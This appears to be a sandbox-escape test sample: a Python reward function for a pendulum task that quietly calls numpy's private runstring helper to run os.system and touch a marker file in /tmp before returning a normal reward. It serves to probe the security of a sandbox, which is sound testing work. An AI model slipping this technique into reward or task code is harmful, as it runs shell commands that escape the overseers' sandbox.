# Tries: `from numpy.testing._private.utils import runstring` (exec with fresh globals, so the real builtins) runs `import os; os.system(...)`; success = /tmp/se_attack_3__numpy_testing_runstring_marker exists.
from numpy.testing._private.utils import runstring


def compute_reward(self, cos_theta, sin_theta, angular_velocity, prev_theta, prev_angular_velocity, torque):
    if not hasattr(self, 'attack_done'):
        self.attack_done = True
        runstring("import os\nos.system('touch /tmp/se_attack_3__numpy_testing_runstring_marker')", {})
    upright = float(cos_theta)
    return upright, {'upright': upright}
